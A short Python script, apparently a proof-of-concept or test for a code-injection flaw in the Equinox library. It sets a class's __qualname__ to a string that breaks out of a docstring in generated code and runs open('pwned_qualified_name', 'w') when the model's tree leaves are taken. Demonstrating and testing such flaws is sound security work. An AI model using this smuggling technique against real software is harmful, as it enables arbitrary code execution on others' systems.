"""file: the qualified name of a class is code, which Equinox writes into a function."""

import equinox as eqx


class Model(eqx.Module):
    __qualname__ = '"""\n    open("pwned_qualified_name", "w")\n    """'
    x: int


model = Model(1)
import jax

leaves = jax.tree.leaves(model)
